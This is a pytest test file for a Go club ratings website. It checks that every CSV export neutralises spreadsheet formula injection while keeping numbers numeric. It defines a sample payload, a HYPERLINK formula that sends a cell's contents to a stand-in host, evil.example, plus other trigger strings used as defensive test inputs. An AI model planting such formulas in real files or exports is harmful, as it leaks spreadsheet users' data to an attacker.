"""Formula injection: every CSV the site writes
neutralises text cells a spreadsheet would run, and keeps numbers numbers
(ratings/exchange/cells.py)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from ratings import committee, services
from ratings.exchange.cells import FORMULA_TRIGGERS, restore_cell, safe_cell
from ratings.models import Club, Player
from ratings.recompute import recompute_list
from ratings.services import GameRow
from ratings.whatif import rate_csv
from tests.support import ClientFor, MakePlayer, make_pool

if TYPE_CHECKING:
    from tests.support import TestResponse

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1 (jigo)", "'+1 (jigo)"),
        ("-", "'-"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Ann Bee", "Ann Bee"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value: object, written: str) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", [-12.5, -12, Decimal("-6.5"), "-12.5", "+7", "-0.25", "1e3", "-1E-3", 0])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(("value", "written"), [(True, "True"), (False, "False")])
def test_a_flag_is_written_as_its_word_not_as_a_number(value: bool, written: str) -> None:
    """A bool is an int to Python: it is written as its word (a forfeit
    column says True, not 1), and never as "None" (a mutant that survived
    mutmut, docs/testing.md)."""
    assert safe_cell(value) == written


@given(st.text())
def test_reading_back_restores_what_was_written(text: str) -> None:
    written = safe_cell(text)
    assert isinstance(written, str)
    if not text.startswith("'"):
        assert restore_cell(written) == text
    if written.startswith(FORMULA_TRIGGERS):  # only a plain number may start so
        float(written)


# --- every CSV the site writes --------------------------------------------------------


@pytest.fixture
def evil_games(club: Club, make_player: MakePlayer) -> tuple[Player, Player]:
    evil = make_player(EVIL, rank=-5, slug="evil")
    ann = make_player("@Ann", rank=-8, slug="ann")
    services.save_sheet(
        club=club,
        date=date(2024, 3, 5),
        event="-Tuesday",
        rows=[GameRow(white=evil, black=ann, winner="black"), GameRow(white=ann, black=evil, winner="white")],
    )
    recompute_list(club.rating_list_id, full=True)
    return evil, ann


def _cells(response: TestResponse) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.getvalue().decode())))


def test_the_public_players_list(client: Client, evil_games: tuple[Player, Player]) -> None:
    rows = _cells(client.get(reverse("players"), {"export": "csv"}))
    names = {row[0] for row in rows[1:]}
    assert "'" + EVIL in names and "'@Ann" in names and EVIL not in names


def test_a_players_record_sheet_keeps_negative_changes_numeric(
    client: Client, evil_games: tuple[Player, Player]
) -> None:
    rows = _cells(client.get(reverse("player", args=["evil"]), {"export": "csv"}))
    header, body = rows[0], rows[1:]
    assert {row[0] for row in body} == {"'@Ann"}
    changes = [row[header.index("Change in index")] for row in body]
    assert len(changes) == 2 and all(c.startswith("-") for c in changes), changes  # lost both
    assert all(float(c) < 0 for c in changes)  # numbers, not neutralised text


def test_the_game_export_and_it_reads_back(
    client_for: ClientFor, club: Club, evil_games: tuple[Player, Player]
) -> None:
    rows = _cells(
        client_for("committee").get(
            reverse("export"), {"rating_list": str(club.rating_list_id), "format": "csv"}
        )
    )
    header = rows[0]
    assert {row[header.index("white")] for row in rows[1:]} == {"'" + EVIL, "'@Ann"}
    assert {row[header.index("event")] for row in rows[1:]} == {"'-Tuesday"}
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows(rows)  # as a spreadsheet would save it
    text = out.getvalue()
    fresh = make_pool(name="Fresh", slug="fresh")
    committee.import_tournament(fresh, text.encode(), filename="back.csv")
    assert set(Player.objects.filter(rating_list=fresh.rating_list).values_list("name", flat=True)) == {
        EVIL,
        "@Ann",
    }


def test_the_what_if_results(db: None) -> None:
    text = "date,white,black,winner,handicap,komi,white_start,black_start\n2024-03-05,=cmd,@who,black,0,6.5,5k,5k\n"
    rows = list(csv.DictReader(io.StringIO(rate_csv(text, "sagc"))))
    assert {row["player"] for row in rows} == {"'=cmd", "'@who"}
    assert {row["opponent"] for row in rows} == {"'=cmd", "'@who"}
    loser = next(row for row in rows if row["player"] == "'=cmd")
    assert float(loser["change"]) < 0 and loser["change"].startswith("-")
